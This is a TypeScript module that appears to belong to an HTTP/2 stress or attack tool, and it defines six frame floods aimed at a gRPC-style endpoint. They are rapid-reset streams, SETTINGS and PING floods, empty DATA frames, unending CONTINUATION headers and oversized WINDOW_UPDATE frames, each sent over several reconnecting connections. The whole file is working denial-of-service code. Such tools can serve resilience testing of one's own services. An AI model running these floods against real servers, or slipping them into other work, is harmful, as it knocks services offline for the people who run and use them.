// Floods of single frames of HTTP/2, each on a few connections that are opened anew when they are cut.
import { Flag, FrameType, frame, headerBlock, requestHeaders } from "../wire/http2-frames.js";
import { flood } from "../wire/raw-connection.js";
import type { Attack } from "./attack.js";

const connections = 4;
const framesInChunk = 500;
const block = headerBlock(requestHeaders("/aldis.v1.RealtimeService/Connect"));

function repeated(make: (index: number) => Uint8Array): Buffer {
  return Buffer.concat(Array.from({ length: framesInChunk }, (_, index) => make(index)));
}

function floodOf(name: string, about: string, chunk: (turn: number) => Uint8Array): Attack {
  return { name, about, run: (target) => flood(target, connections, chunk, framesInChunk) };
}

/** Streams that are begun and reset at once. */
export const rapidReset = floodOf("rapid-reset", "streams that are begun and reset at once", (turn) =>
  repeated((index) => {
    const stream = 2 * (turn * framesInChunk + index) + 1;
    const reset = frame(FrameType.RST_STREAM, 0, stream, Buffer.of(0, 0, 0, 8));
    return Buffer.concat([frame(FrameType.HEADERS, Flag.END_HEADERS, stream, block), reset]);
  }),
);

const settingsChunk = repeated(() => frame(FrameType.SETTINGS, 0, 0, Buffer.of(0, 4, 0, 1, 0, 0)));
export const settingsFlood = floodOf("settings-flood", "settings of HTTP/2 without end", () => settingsChunk);

const pingChunk = repeated(() => frame(FrameType.PING, 0, 0, Buffer.alloc(8)));
export const pingFlood = floodOf("ping-flood", "pings of HTTP/2 without end", () => pingChunk);

const emptyChunk = repeated(() => frame(FrameType.DATA, 0, 1));
const begun = frame(FrameType.HEADERS, Flag.END_HEADERS, 1, block);
export const emptyDataFlood = floodOf("empty-data-flood", "empty frames of data on one stream without end", (turn) =>
  turn === 0 ? Buffer.concat([begun, emptyChunk]) : emptyChunk,
);

const open = frame(FrameType.HEADERS, 0, 1, block);
const continuations = repeated((index) =>
  frame(FrameType.CONTINUATION, 0, 1, headerBlock({ [`x-${index}`]: "x".repeat(100) })),
);
export const continuationFlood = floodOf("continuation-flood", "headers of a request that do not end", (turn) =>
  turn === 0 ? Buffer.concat([open, continuations]) : continuations,
);

export const windowFlood = floodOf("window-flood", "updates of a window beyond its bound", () =>
  repeated(() => frame(FrameType.WINDOW_UPDATE, 0, 0, Buffer.of(0x7f, 0xff, 0xff, 0xff))),
);
